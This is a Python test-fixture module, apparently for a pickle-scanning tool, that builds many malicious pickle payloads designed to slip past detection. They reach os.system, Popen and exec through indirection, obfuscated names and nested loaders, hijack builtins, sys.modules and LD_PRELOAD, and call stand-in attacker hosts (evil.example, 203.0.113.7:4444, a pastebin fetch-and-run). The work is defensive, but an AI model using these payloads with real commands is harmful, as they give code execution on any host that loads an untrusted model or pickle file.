"""Pickle evasions not in ``tests/fixtures/pickle_exploits.py``, assembled opcode by opcode.

Each builder takes the marker path and the fixture folder (for helper files such as a zip or a
``.py`` a gadget loads) and returns the pickle bytes. The only effect of loading is to create the
marker (``touch``, ``open(marker, 'w')``, a copy of ``/dev/null``).
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from fixtures.pickle_exploits import (
    bu,
    call,
    ccall,
    const,
    get,
    glob,
    p2,
    p4,
    put,
    sbu,
    sglob,
    shell,
    string0,
    tup,
)

Builder = Callable[[str, Path], bytes]


def code(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def _attr(obj: bytes, name: str) -> bytes:
    return call(glob("builtins", "getattr"), obj, sbu(name))


# -- string-to-callable indirection --------------------------------------------------------------


def builtins_dict_getitem_exec(m: str, d: Path) -> bytes:
    """``operator.getitem(builtins.__dict__, 'exec')(code)`` (the dict is reached with GLOBAL)."""
    ex = call(glob("operator", "getitem"), glob("builtins", "__dict__"), sbu("exec"))
    return p2(call(ex, sbu(code(m))))


def sys_modules_getattr(m: str, d: Path) -> bytes:
    """``getattr(getattr(sys, 'modules')['os'], 'system')(cmd)``."""
    modules = _attr(glob("builtins", "__import__") + tup(sbu("sys")) + pickle.REDUCE, "modules")
    os_mod = call(glob("operator", "getitem"), modules, sbu("os"))
    return p2(call(_attr(os_mod, "system"), sbu(shell(m))))


def sys_modules_global(m: str, d: Path) -> bytes:
    """``GLOBAL sys modules`` then ``dict.get`` bound method (no getattr, no getitem opcode)."""
    get_ = glob("builtins", "getattr") + tup(glob("sys", "modules"), sbu("get")) + pickle.REDUCE
    os_mod = call(get_, sbu("os"))
    return p2(call(_attr(os_mod, "system"), sbu(shell(m))))


def copyreg_reconstructor_popen(m: str, d: Path) -> bytes:
    """``copyreg._reconstructor(Popen, Popen, argv)`` runs ``Popen.__init__(obj, argv)``."""
    popen = glob("subprocess", "Popen")
    return p2(call(glob("copyreg", "_reconstructor"), popen, popen, const(["touch", m])))


def functools_reduce_exec(m: str, d: Path) -> bytes:
    """``functools.reduce(exec, [{}], code)`` calls ``exec(code, {})``."""
    return p2(call(glob("functools", "reduce"), glob("builtins", "exec"), const([{}]), sbu(code(m))))


def list_map_os_system(m: str, d: Path) -> bytes:
    """``list(map(os.system, [cmd]))`` through REDUCE (the existing fixtures use NEWOBJ)."""
    lazy = call(glob("builtins", "map"), glob("os", "system"), const([shell(m)]))
    return p2(call(glob("builtins", "list"), lazy))


def sorted_filter_os_system(m: str, d: Path) -> bytes:
    """``sorted(filter(os.system, [cmd]))``: the filter predicate is the payload."""
    lazy = call(glob("builtins", "filter"), glob("os", "system"), const([shell(m)]))
    return p2(call(glob("builtins", "sorted"), lazy))


def dict_fromkeys_map(m: str, d: Path) -> bytes:
    """``dict.fromkeys(map(os.system, [cmd]))``: consumer is a classmethod reached by a dotted name."""
    lazy = call(sglob("builtins", "map"), sglob("os", "system"), const([shell(m)]))
    return p4(call(sglob("builtins", "dict.fromkeys"), lazy))


def operator_call(m: str, d: Path) -> bytes:
    """``operator.call(os.system, cmd)`` (Python 3.11+)."""
    return p2(call(glob("operator", "call"), glob("os", "system"), sbu(shell(m))))


def underscore_operator_call(m: str, d: Path) -> bytes:
    return p2(call(glob("_operator", "call"), glob("os", "system"), sbu(shell(m))))


def defaultdict_factory(m: str, d: Path) -> bytes:
    """``defaultdict(partial(os.system, cmd))['k']``: the call happens in ``__missing__``."""
    factory = call(glob("functools", "partial"), glob("os", "system"), sbu(shell(m)))
    dd = call(glob("collections", "defaultdict"), factory)
    return p2(call(glob("operator", "getitem"), dd, sbu("k")))


def defaultdict_getitem_dotted(m: str, d: Path) -> bytes:
    """Same, the lookup through ``collections.defaultdict.__getitem__`` reached by a dotted name."""
    factory = call(sglob("functools", "partial"), sglob("os", "system"), sbu(shell(m)))
    dd = call(sglob("collections", "defaultdict"), factory)
    return p4(call(sglob("collections", "defaultdict.__getitem__"), dd, sbu("k")))


# -- nested loaders ---------------------------------------------------------------------------------


def _evil(m: str) -> bytes:
    return p2(ccall(glob("os", "system"), shell(m)))


def _npy_object_array(m: str) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header_bytes = header.encode("latin1")
    pad = 64 - (10 + len(header_bytes) + 1) % 64
    header_bytes += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header_bytes)) + header_bytes + _evil(m)


def numpy_read_array_bytesio(m: str, d: Path) -> bytes:
    """``numpy.lib.format.read_array(BytesIO(npy), True)`` with an object array whose pickle is the payload."""
    buf = call(glob("io", "BytesIO"), const(_npy_object_array(m)))
    return p2(call(glob("numpy.lib.format", "read_array"), buf, const(True)))


def numpy_load_bytesio(m: str, d: Path) -> bytes:
    """``numpy.load(BytesIO(npy), None, True)`` (mmap_mode, allow_pickle positional)."""
    buf = call(glob("io", "BytesIO"), const(_npy_object_array(m)))
    return p2(call(glob("numpy", "load"), buf, const(None), const(True)))


def torch_serialization_load_pickle_module(m: str, d: Path) -> bytes:
    """``torch.serialization.load(BytesIO(evil), None, pickle)``: passing a pickle_module turns weights_only off."""
    buf = call(glob("io", "BytesIO"), const(_evil(m)))
    pickle_mod = ccall(glob("builtins", "__import__"), "pickle")
    return p2(call(glob("torch.serialization", "load"), buf, const(None), pickle_mod))


def pandas_read_pickle(m: str, d: Path) -> bytes:
    buf = call(glob("io", "BytesIO"), const(_evil(m)))
    return p2(call(glob("pandas", "read_pickle"), buf))


def pandas_io_pickle_read_pickle(m: str, d: Path) -> bytes:
    buf = call(glob("io", "BytesIO"), const(_evil(m)))
    return p2(call(glob("pandas.io.pickle", "read_pickle"), buf))


def pickle_unpickler_load(m: str, d: Path) -> bytes:
    """``pickle.Unpickler(BytesIO(evil)).load()`` (a class, then a bound method, not ``pickle.loads``)."""
    unp = call(glob("pickle", "Unpickler"), call(glob("io", "BytesIO"), const(_evil(m))))
    return p2(
        call(
            _attr(unp, "load"),
        )
    )


def shelve_open(m: str, d: Path) -> bytes:
    """``shelve.open(marker)`` creates a dbm file (and later lookups unpickle its values)."""
    return p2(ccall(glob("shelve", "open"), m))


# -- file writes ----------------------------------------------------------------------------------


def shutil_copyfile(m: str, d: Path) -> bytes:
    return p2(ccall(glob("shutil", "copyfile"), "/dev/null", m))


def builtins_open_write(m: str, d: Path) -> bytes:
    """``open(marker, 'w').write('x')``."""
    fh = ccall(glob("builtins", "open"), m, "w")
    return p2(call(_attr(fh, "write"), sbu("pwned")))


def io_open_write(m: str, d: Path) -> bytes:
    """``io.open`` / ``_io.open`` alias of ``open``, mode 'w' alone creates the file."""
    return p2(ccall(glob("_io", "open"), m, "w"))


def pathlib_write_text(m: str, d: Path) -> bytes:
    """``pathlib.Path(marker).write_text('x')`` through a dotted global."""
    path = ccall(sglob("pathlib", "Path"), m)
    return p4(call(sglob("pathlib", "Path.write_text"), path, sbu("x")))


def tempfile_os_rename(m: str, d: Path) -> bytes:
    """``os.rename(tempfile.mkstemp(dir=...)[1], marker)`` (write primitive: drop a file anywhere)."""
    tmp = call(glob("tempfile", "mkstemp"), const(""), const(""), sbu(str(d)))
    name = call(glob("operator", "getitem"), tmp, const(1))
    return p2(call(glob("os", "rename"), name, sbu(m)))


def urlretrieve_file_url(m: str, d: Path) -> bytes:
    """``urllib.request.urlretrieve('file:///dev/null', marker)`` downloads to disk."""
    return p2(ccall(glob("urllib.request", "urlretrieve"), "file:///dev/null", m))


# -- loaders of code from disk ------------------------------------------------------------------------


def prepare_module(m: str, d: Path) -> Path:
    src = d / "rt_payload_mod.py"
    src.write_text(code(m) + "\n")
    return src


def prepare_zip(m: str, d: Path) -> Path:
    zpath = d / "rt_payload.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr("rtzipmod.py", code(m) + "\n")
    return zpath


def zipimporter_load_module(m: str, d: Path) -> bytes:
    importer = ccall(glob("zipimport", "zipimporter"), str(prepare_zip(m, d)))
    return p2(call(_attr(importer, "load_module"), sbu("rtzipmod")))


def source_file_loader(m: str, d: Path) -> bytes:
    loader = ccall(glob("importlib.machinery", "SourceFileLoader"), "rt_payload_mod", str(prepare_module(m, d)))
    return p2(
        call(
            _attr(loader, "load_module"),
        )
    )


def runpy_run_path(m: str, d: Path) -> bytes:
    return p2(ccall(glob("runpy", "run_path"), str(prepare_module(m, d))))


def distutils_spawn(m: str, d: Path) -> bytes:
    return p2(ccall(glob("distutils.spawn", "spawn"), ["touch", m]))


def multiprocessing_finalizers(m: str, d: Path) -> bytes:
    """Register ``Finalize(None, os.system, (cmd,), None, 0)`` then call ``_run_finalizers()``."""
    obj = pickle.NONE
    fin = call(
        glob("multiprocessing.util", "Finalize"), obj, glob("os", "system"), tup(sbu(shell(m))), pickle.NONE, const(0)
    )
    return p2(fin + pickle.POP + call(glob("multiprocessing.util", "_run_finalizers")))


def jinja2_template_render(m: str, d: Path) -> bytes:
    src = "{{ cycler.__init__.__globals__.os.system(cmd) }}"
    tmpl = ccall(glob("jinja2", "Template"), src)
    render = _attr(tmpl, "render")
    return p2(call(render, const({"cmd": shell(m)})))


def logging_config_listen(m: str, d: Path) -> bytes:
    """``logging.config.listen(0)`` starts a socket server whose configs may run code (not started here)."""
    return p2(ccall(glob("logging.config", "listen"), 0))


def numpy_ctypeslib_load_library(m: str, d: Path) -> bytes:
    return p2(ccall(glob("numpy.ctypeslib", "load_library"), "libc.so.6", "/lib/x86_64-linux-gnu"))


def torch_ops_load_library(m: str, d: Path) -> bytes:
    return p4(ccall(sglob("torch", "ops.load_library"), "/lib/x86_64-linux-gnu/libc.so.6"))


def torch_classes_load_library(m: str, d: Path) -> bytes:
    return p4(ccall(sglob("torch", "classes.load_library"), "/lib/x86_64-linux-gnu/libc.so.6"))


def torch_hub_load(m: str, d: Path) -> bytes:
    return p2(ccall(glob("torch.hub", "load"), "attacker/repo", "model"))


def torch_hub_load_state_dict_from_url(m: str, d: Path) -> bytes:
    return p2(ccall(glob("torch.hub", "load_state_dict_from_url"), "https://evil.example/w.pth"))


def socket_create_connection(m: str, d: Path) -> bytes:
    return p2(call(glob("socket", "create_connection"), const(("203.0.113.7", 4444))))


def http_client_connection(m: str, d: Path) -> bytes:
    conn = ccall(glob("http.client", "HTTPConnection"), "203.0.113.7")
    return p2(call(_attr(conn, "request"), sbu("GET"), sbu("/x")))


def urlretrieve_then_exec(m: str, d: Path) -> bytes:
    """Fetch a script to disk then ``runpy.run_path`` it."""
    fetched = ccall(glob("urllib.request", "urlretrieve"), "https://pastebin.com/raw/abc", str(d / "x.py"))
    path = call(glob("operator", "getitem"), fetched, const(0))
    return p2(call(glob("runpy", "run_path"), path))


# -- obfuscated names --------------------------------------------------------------------------------


def _getattr_os(name: bytes, m: str) -> bytes:
    os_mod = ccall(glob("builtins", "__import__"), "os")
    return p2(call(call(glob("builtins", "getattr"), os_mod, name), sbu(shell(m))))


def obf_str_join(m: str, d: Path) -> bytes:
    """``getattr(os, ''.join(['sys', 'tem']))``: ``str.join`` bound to ''."""
    join = call(glob("builtins", "getattr"), sbu(""), sbu("join"))
    return _getattr_os(call(join, const(["sys", "tem"])), m)


def obf_str_join_unbound(m: str, d: Path) -> bytes:
    """``str.join('', [...])`` through the dotted global ``builtins.str.join``."""
    name = call(sglob("builtins", "str.join"), sbu(""), const(["sy", "st", "em"]))
    os_mod = ccall(sglob("builtins", "__import__"), "os")
    return p4(call(call(sglob("builtins", "getattr"), os_mod, name), sbu(shell(m))))


def obf_str_swapcase_unbound(m: str, d: Path) -> bytes:
    """``getattr(os, str.swapcase('SYSTEM'))`` through the dotted global ``builtins.str.swapcase``."""
    name = call(sglob("builtins", "str.swapcase"), sbu("SYSTEM"))
    os_mod = ccall(sglob("builtins", "__import__"), "os")
    return p4(call(call(sglob("builtins", "getattr"), os_mod, name), sbu(shell(m))))


def obf_bytes_decode(m: str, d: Path) -> bytes:
    name = call(glob("builtins", "getattr"), const(b"system"), sbu("decode"))
    return _getattr_os(
        call(
            name,
        ),
        m,
    )


def obf_codecs_rot13(m: str, d: Path) -> bytes:
    return _getattr_os(ccall(glob("codecs", "decode"), "flfgrz", "rot13"), m)


def obf_reversed(m: str, d: Path) -> bytes:
    rev = ccall(glob("builtins", "reversed"), "metsys")
    return _getattr_os(call(call(glob("builtins", "getattr"), sbu(""), sbu("join")), rev), m)


def obf_operator_add(m: str, d: Path) -> bytes:
    return _getattr_os(ccall(glob("operator", "add"), "sys", "tem"), m)


def obf_getitem_slice(m: str, d: Path) -> bytes:
    """``'xxsystemxx'[2:8]`` via ``operator.getitem`` and ``builtins.slice``."""
    sl = ccall(glob("builtins", "slice"), 2, 8)
    return _getattr_os(call(glob("operator", "getitem"), sbu("xxsystemxx"), sl), m)


def obf_stack_global_decoded(m: str, d: Path) -> bytes:
    """STACK_GLOBAL whose module and name come from ``bytes.decode`` calls (``codecs.decode`` with rot13)."""
    mod = ccall(sglob("codecs", "decode"), "bf", "rot13")
    name = ccall(sglob("codecs", "decode"), "flfgrz", "rot13")
    return p4(mod + name + pickle.STACK_GLOBAL + tup(sbu(shell(m))) + pickle.REDUCE)


def obf_format(m: str, d: Path) -> bytes:
    """``'{}{}'.format('sys', 'tem')`` via ``str.format`` dotted global."""
    name = call(sglob("builtins", "str.format"), sbu("{}{}"), sbu("sys"), sbu("tem"))
    os_mod = ccall(sglob("builtins", "__import__"), "os")
    return p4(call(call(sglob("builtins", "getattr"), os_mod, name), sbu(shell(m))))


# -- opcode-level tricks --------------------------------------------------------------------------------


def proto5_next_buffer_after_payload(m: str, d: Path) -> bytes:
    """Payload, then NEXT_BUFFER with no buffers given: the loader raises after the call ran."""
    body = ccall(sglob("os", "system"), shell(m)) + pickle.POP + pickle.NEXT_BUFFER
    return p4(body, version=5)


def proto5_readonly_buffer_arg(m: str, d: Path) -> bytes:
    """A benign in-band PickleBuffer round trip before the payload (BYTEARRAY8 + READONLY_BUFFER are legal)."""
    data = b"abc"
    ba = pickle.BYTEARRAY8 + struct.pack("<Q", len(data)) + data
    body = ba + pickle.POP + ccall(sglob("os", "system"), shell(m))
    return p4(body, version=5)


def global_crlf(m: str, d: Path) -> bytes:
    """GLOBAL with ``\\r\\n`` line ends: ``__import__('os\\r')`` fails, so loaders refuse it."""
    return b"cos\r\nsystem\r\n(" + string0(shell(m)) + b"tR."


def global_trailing_space(m: str, d: Path) -> bytes:
    return b"cos \nsystem\n(" + string0(shell(m)) + b"tR."


def global_homoglyph(m: str, d: Path) -> bytes:
    """Cyrillic 'о' in ``оs``: no such module, the loader refuses it."""
    return p2(ccall(glob("\u043es", "system"), shell(m)))


def inst_args_from_memo(m: str, d: Path) -> bytes:
    """INST whose argument comes from the memo, and the command computed by ``operator.add``."""
    cmd = ccall(glob("operator", "add"), "touch ", m) + put(0) + pickle.POP
    return p2(cmd + pickle.MARK + get(0) + pickle.INST + b"os\nsystem\n")


def inst_callable_module_dotted(m: str, d: Path) -> bytes:
    """INST naming ``subprocess\\ncheck_call`` with a list argument (protocol 0 text only)."""
    return (
        pickle.MARK
        + pickle.MARK
        + string0("touch")
        + string0(m)
        + pickle.LIST
        + pickle.INST
        + b"subprocess\ncheck_call\n"
        + pickle.STOP
    )


def inst_class_from_obj(m: str, d: Path) -> bytes:
    """OBJ whose class is computed (``getattr(__import__('os'), 'system')``) instead of a GLOBAL."""
    fn = call(glob("builtins", "getattr"), ccall(glob("builtins", "__import__"), "os"), sbu("system"))
    return p2(pickle.MARK + fn + sbu(shell(m)) + pickle.OBJ)


def ext_registry_setitem_opcode(m: str, d: Path) -> bytes:
    """SETITEM straight into ``copyreg._inverted_registry`` (no call at all), then EXT1."""
    reg = glob("copyreg", "_inverted_registry") + const(0xE7) + const(("os", "system")) + pickle.SETITEM + pickle.POP
    return p2(reg + pickle.EXT1 + bytes([0xE7]) + tup(sbu(shell(m))) + pickle.REDUCE)


def ext_registry_dunder_setitem(m: str, d: Path) -> bytes:
    """``copyreg._inverted_registry.__setitem__(code, (mod, name))`` by a dotted STACK_GLOBAL, then EXT2."""
    reg = ccall(sglob("copyreg", "_inverted_registry.__setitem__"), 0x1234, ("os", "system")) + pickle.POP
    return p4(reg + pickle.EXT2 + struct.pack("<H", 0x1234) + tup(sbu(shell(m))) + pickle.REDUCE)


def memo_reduce_result_reused(m: str, d: Path) -> bytes:
    """A memoized ``getattr(os, 'system')`` result fetched twice, called from the memo."""
    fn = call(glob("builtins", "getattr"), ccall(glob("builtins", "__import__"), "os"), sbu("system"))
    return p2(fn + put(3) + pickle.POP + const({"a": 1}) + pickle.POP + get(3) + tup(sbu(shell(m))) + pickle.REDUCE)


def payload_in_dict_key(m: str, d: Path) -> bytes:
    return p2(pickle.EMPTY_DICT + ccall(glob("os", "system"), shell(m)) + const(1) + pickle.SETITEM)


def payload_in_set_member(m: str, d: Path) -> bytes:
    body = pickle.EMPTY_SET + pickle.MARK + ccall(sglob("os", "system"), shell(m)) + pickle.ADDITEMS
    return p4(body)


def payload_in_frozenset(m: str, d: Path) -> bytes:
    body = pickle.MARK + const(1) + ccall(sglob("os", "system"), shell(m)) + pickle.FROZENSET
    return p4(body)


def hash_hook_monkeypatch(m: str, d: Path) -> bytes:
    """BUILD (slot state) sets ``Terminal.__hash__ = subprocess.getoutput`` on a str subclass; inserting a
    ``Terminal('touch MARKER')`` as a dict key makes the interpreter call it. No REDUCE ever calls the gadget.
    """
    cls = glob("email._header_value_parser", "Terminal")
    patch = cls + tup(
        pickle.NONE, pickle.EMPTY_DICT + sbu("__hash__") + glob("subprocess", "getoutput") + pickle.SETITEM
    )
    patch += pickle.BUILD + pickle.POP
    key = ccall(glob("email._header_value_parser", "Terminal"), shell(m), "x")
    return p2(patch + pickle.EMPTY_DICT + key + const(1) + pickle.SETITEM)


def build_setstate_simplenamespace(m: str, d: Path) -> bytes:
    """BUILD on a SimpleNamespace with ``__setstate__`` in the state: only sets an attribute (benign-ish)."""
    ns = call(glob("types", "SimpleNamespace"))
    state = pickle.EMPTY_DICT + sbu("__setstate__") + glob("os", "system") + pickle.SETITEM
    return p2(ns + state + pickle.BUILD)


def deep_marks(n: int = 100_000) -> bytes:
    return p2(pickle.MARK * n + pickle.EMPTY_LIST)


def deep_lists(n: int = 50_000) -> bytes:
    """[[[...]]] nested n deep: EMPTY_LIST ... APPEND chains."""
    return p2(pickle.EMPTY_LIST * (n + 1) + pickle.APPEND * n)


def huge_binunicode_claim() -> bytes:
    """BINUNICODE claims 4 GB in a 1 KB file."""
    return proto_bytes(2) + pickle.BINUNICODE + struct.pack("<I", 0xFFFFFFF0) + b"A" * 1000


def huge_binunicode8_claim() -> bytes:
    return proto_bytes(4) + pickle.BINUNICODE8 + struct.pack("<Q", 1 << 62) + b"A" * 1000


def proto_bytes(n: int) -> bytes:
    return pickle.PROTO + bytes([n])


def raw_bytes_io(data: bytes) -> bytes:
    return io.BytesIO(data).getvalue()


# -- deferred and indirect callers ---------------------------------------------------------------------


def methodtype_bound(m: str, d: Path) -> bytes:
    """``types.MethodType(os.system, cmd)()``: the command is bound as ``self``, the call takes no argument."""
    bound = call(glob("types", "MethodType"), glob("os", "system"), sbu(shell(m)))
    return p2(call(bound))


def itertools_starmap(m: str, d: Path) -> bytes:
    lazy = call(glob("itertools", "starmap"), glob("os", "system"), const([[shell(m)]]))
    return p2(call(glob("builtins", "list"), lazy))


def deque_consume(m: str, d: Path) -> bytes:
    """``collections.deque(map(os.system, [cmd]), 0)``: the idiomatic way to exhaust an iterator."""
    lazy = call(glob("builtins", "map"), glob("os", "system"), const([shell(m)]))
    return p2(call(glob("collections", "deque"), lazy, const(0)))


def any_map(m: str, d: Path) -> bytes:
    lazy = call(glob("builtins", "map"), glob("os", "system"), const([shell(m)]))
    return p2(call(glob("builtins", "any"), lazy))


def exitstack_callback(m: str, d: Path) -> bytes:
    """``ExitStack().callback(os.system, cmd)`` then ``.close()`` on the same (memoized) stack."""
    stack = call(glob("contextlib", "ExitStack")) + put(0)
    register = call(_attr(stack, "callback"), glob("os", "system"), sbu(shell(m))) + pickle.POP
    return p2(register + call(_attr(get(0), "close")))


def atexit_register(m: str, d: Path) -> bytes:
    """``atexit.register(os.system, cmd)``: nothing runs during load, the command runs when the process exits."""
    return p2(call(glob("atexit", "register"), glob("os", "system"), sbu(shell(m))))


def weakref_finalize(m: str, d: Path) -> bytes:
    """``weakref.finalize(obj, os.system, cmd)`` on a short-lived object: runs at collection or exit."""
    return p2(call(glob("weakref", "finalize"), call(glob("builtins", "set")), glob("os", "system"), sbu(shell(m))))


def threading_thread_start(m: str, d: Path) -> bytes:
    thread = call(glob("threading", "Thread"), pickle.NONE, glob("os", "system"), pickle.NONE, tup(sbu(shell(m))))
    return p2(call(_attr(thread, "start")))


def uuid_get_command_stdout(m: str, d: Path) -> bytes:
    """``uuid._get_command_stdout('touch', marker)``: a private helper that spawns any program on $PATH."""
    return p2(ccall(glob("uuid", "_get_command_stdout"), "touch", m))


def os_posix_spawnp(m: str, d: Path) -> bytes:
    return p2(call(glob("os", "posix_spawnp"), sbu("touch"), const(["touch", m]), const({})))


def os_spawnlp(m: str, d: Path) -> bytes:
    return p2(ccall(glob("os", "spawnlp"), 0, "touch", "touch", m))


def builtins_dict_setitem_patch(m: str, d: Path) -> bytes:
    """SETITEM into ``builtins.__dict__``: ``print`` becomes ``os.system`` for the rest of the process."""
    patch = glob("builtins", "__dict__") + sbu("print") + glob("os", "system") + pickle.SETITEM + pickle.POP
    return p2(patch + const({"ok": 1}))


def sys_modules_setitem_hijack(m: str, d: Path) -> bytes:
    """SETITEM into ``sys.modules``: later ``import json`` in the victim returns ``os``."""
    mod = ccall(glob("builtins", "__import__"), "os")
    patch = glob("sys", "modules") + sbu("json") + mod + pickle.SETITEM + pickle.POP
    return p2(patch + const({"ok": 1}))


@dataclass(frozen=True)
class Case:
    """One evasion: how to build it, how to prove it, and what modelsieve should say.

    ``loader``: ``pickle`` (``pickle.loads`` in a subprocess), ``torch`` (needs torch in the child), or
    ``none`` with ``no_proof``. ``subjects``: any of them is an acceptable subject of a ``rule`` finding
    (none: any finding of that rule); ``behaviour``: words one behaviour must contain. ``floor``: the
    verdict at least expected (SUSPICIOUS when a static proof of the call is out of reach). ``gap``: the
    strict-xfail reason when modelsieve currently misses it.
    """

    name: str
    builder: Builder
    subjects: tuple[str, ...]
    floor: str = "malicious"
    loader: str = "pickle"
    no_proof: str = ""
    gap: str = ""
    needs: str = ""
    rule: str = "PKL001"
    behaviour: tuple[str, ...] = ()


__all__ = ["Case", "bu"]


# -- second wave: string resolvers, call-forwarding methods, odd consumers, write primitives -------------------


def _call_method(obj: bytes, name: str, *args: bytes) -> bytes:
    return call(_attr(obj, name), *args)


def partial_build_setstate(m: str, d: Path) -> bytes:
    """``partial(print)`` rebuilt by BUILD into ``partial(os.system, cmd)``, then called.

    os.system only appears in the BUILD state.
    """
    obj = glob("functools", "partial") + tup(glob("builtins", "print")) + pickle.NEWOBJ
    state = tup(glob("os", "system"), tup(sbu(shell(m))), pickle.EMPTY_DICT, pickle.NONE)
    return p2(obj + state + pickle.BUILD + pickle.EMPTY_TUPLE + pickle.REDUCE)


def staticmethod_callable(m: str, d: Path) -> bytes:
    """``staticmethod(os.system)(cmd)``: staticmethod objects are callable since 3.10."""
    return p2(call(call(glob("builtins", "staticmethod"), glob("os", "system")), sbu(shell(m))))


def functools_cache_wrapper(m: str, d: Path) -> bytes:
    return p2(call(call(glob("functools", "cache"), glob("os", "system")), sbu(shell(m))))


def type_created_class_del(m: str, d: Path) -> bytes:
    """``type('X', (str,), {'__del__': subprocess.getoutput})('touch …')``: runs when the string is freed."""
    ns = pickle.EMPTY_DICT + sbu("__del__") + glob("subprocess", "getoutput") + pickle.SETITEM
    cls = call(glob("builtins", "type"), sbu("X"), tup(glob("builtins", "str")), ns)
    return p2(call(cls, sbu(shell(m))))


def logging_dictconfig_factory(m: str, d: Path) -> bytes:
    """``logging.config.dictConfig`` with a handler factory ``'()': 'os.system'`` and ``command=cmd``: only strings."""
    config = {"version": 1, "handlers": {"h": {"()": "os.system", "command": shell(m)}}}
    return p2(ccall(glob("logging.config", "dictConfig"), config))


def pydoc_locate(m: str, d: Path) -> bytes:
    return p2(call(ccall(glob("pydoc", "locate"), "os.system"), sbu(shell(m))))


def logging_config_resolve(m: str, d: Path) -> bytes:
    return p2(call(ccall(glob("logging.config", "_resolve"), "os.system"), sbu(shell(m))))


def torch_import_dotted_name(m: str, d: Path) -> bytes:
    return p2(call(ccall(glob("torch._utils", "_import_dotted_name"), "os.system"), sbu(shell(m))))


def ctypes_pyrun_simplestring(m: str, d: Path) -> bytes:
    """``ctypes.pythonapi.PyRun_SimpleString(b'code')`` by a dotted STACK_GLOBAL: C API exec."""
    return p4(call(sglob("ctypes", "pythonapi.PyRun_SimpleString"), const(code(m).encode())))


def cprofile_runcall(m: str, d: Path) -> bytes:
    return p2(_call_method(call(glob("cProfile", "Profile")), "runcall", glob("os", "system"), sbu(shell(m))))


def trace_runfunc(m: str, d: Path) -> bytes:
    tracer = call(glob("trace", "Trace"), const(0), const(0))
    return p2(_call_method(tracer, "runfunc", glob("os", "system"), sbu(shell(m))))


def bdb_runcall(m: str, d: Path) -> bytes:
    return p2(_call_method(call(glob("bdb", "Bdb")), "runcall", glob("os", "system"), sbu(shell(m))))


def threadpool_submit(m: str, d: Path) -> bytes:
    pool = call(glob("concurrent.futures", "ThreadPoolExecutor"))
    fut = _call_method(pool, "submit", glob("os", "system"), sbu(shell(m)))
    return p2(_call_method(fut, "result"))


def sched_enter_run(m: str, d: Path) -> bytes:
    sch = call(glob("sched", "scheduler")) + put(0)
    enter = _call_method(sch, "enter", const(0), const(0), glob("os", "system"), tup(sbu(shell(m)))) + pickle.POP
    return p2(enter + _call_method(get(0), "run"))


def bytes_consumes_map(m: str, d: Path) -> bytes:
    lazy = call(glob("builtins", "map"), glob("os", "system"), const([shell(m)]))
    return p2(call(glob("builtins", "bytes"), lazy))


def heapq_nsmallest_key(m: str, d: Path) -> bytes:
    """``heapq.nsmallest(1, [cmd], os.system)``: the key function is positional."""
    return p2(call(glob("heapq", "nsmallest"), const(1), const([shell(m)]), glob("os", "system")))


def groupby_key_list(m: str, d: Path) -> bytes:
    lazy = call(glob("itertools", "groupby"), const([shell(m)]), glob("os", "system"))
    return p2(call(glob("builtins", "list"), lazy))


def vars_itemgetter(m: str, d: Path) -> bytes:
    """``itemgetter('system')(vars(import_module('os')))``."""
    namespace = call(glob("builtins", "vars"), ccall(glob("importlib", "import_module"), "os"))
    fn = call(ccall(glob("operator", "itemgetter"), "system"), namespace)
    return p2(call(fn, sbu(shell(m))))


def npyio_impl_load(m: str, d: Path) -> bytes:
    """numpy 2's real module path of ``np.load``: ``numpy.lib._npyio_impl.load``."""
    buf = call(glob("io", "BytesIO"), const(_npy_object_array(m)))
    return p2(call(glob("numpy.lib._npyio_impl", "load"), buf, const(None), const(True)))


def joblib_load_bytesio(m: str, d: Path) -> bytes:
    buf = call(glob("io", "BytesIO"), const(_evil(m)))
    return p2(call(glob("joblib", "load"), buf))


def underscore_pickle_unpickler(m: str, d: Path) -> bytes:
    unp = call(glob("_pickle", "Unpickler"), call(glob("io", "BytesIO"), const(_evil(m))))
    return p2(_call_method(unp, "load"))


def pickle_pure_loads(m: str, d: Path) -> bytes:
    return p2(call(glob("pickle", "_loads"), const(_evil(m))))


def os_symlink(m: str, d: Path) -> bytes:
    return p2(ccall(glob("os", "symlink"), "/etc/hostname", m))


def os_replace(m: str, d: Path) -> bytes:
    src = d / "rt_src.txt"
    src.write_text("x")
    return p2(ccall(glob("os", "replace"), str(src), m))


def zipfile_extractall(m: str, d: Path) -> bytes:
    zpath = d / "rt_extract.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr(Path(m).name, "x")
    zf_obj = ccall(glob("zipfile", "ZipFile"), str(zpath))
    return p2(_call_method(zf_obj, "extractall", sbu(str(Path(m).parent))))


def shutil_unpack_archive(m: str, d: Path) -> bytes:
    zpath = d / "rt_unpack.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr(Path(m).name, "x")
    return p2(ccall(glob("shutil", "unpack_archive"), str(zpath), str(Path(m).parent)))


def sqlite3_connect(m: str, d: Path) -> bytes:
    """``sqlite3.connect(marker).execute('create table t(x)')`` creates the database file."""
    conn = ccall(glob("sqlite3", "connect"), m)
    return p2(_call_method(conn, "execute", sbu("create table t(x)")))


def logging_filehandler(m: str, d: Path) -> bytes:
    """``logging.FileHandler(marker)`` opens (creates) the file in its constructor."""
    return p2(ccall(glob("logging", "FileHandler"), m))


def site_addsitedir(m: str, d: Path) -> bytes:
    """``site.addsitedir(dir)`` executes the ``import`` lines of every ``.pth`` file in ``dir``."""
    sdir = d / "rt_site"
    sdir.mkdir(exist_ok=True)
    (sdir / "rt.pth").write_text(f"import os; os.system({shell(m)!r})\n")
    return p2(ccall(glob("site", "addsitedir"), str(sdir)))


def environ_setitem(m: str, d: Path) -> bytes:
    """SETITEM straight into ``os.environ`` (no call): LD_PRELOAD for every later child process."""
    patch = glob("os", "environ") + sbu("LD_PRELOAD") + sbu(str(d / "evil.so")) + pickle.SETITEM + pickle.POP
    return p2(patch + const({"ok": 1}))


def sys_path_append(m: str, d: Path) -> bytes:
    """APPEND straight onto ``sys.path`` (no call): later imports may come from an attacker folder."""
    patch = glob("sys", "path") + sbu(str(d)) + pickle.APPEND + pickle.POP
    return p2(patch + const({"ok": 1}))


# -- third wave: opcodes that call methods found on the object itself ---------------------------------------------


def _namespace_with(attr: str, fn: bytes) -> bytes:
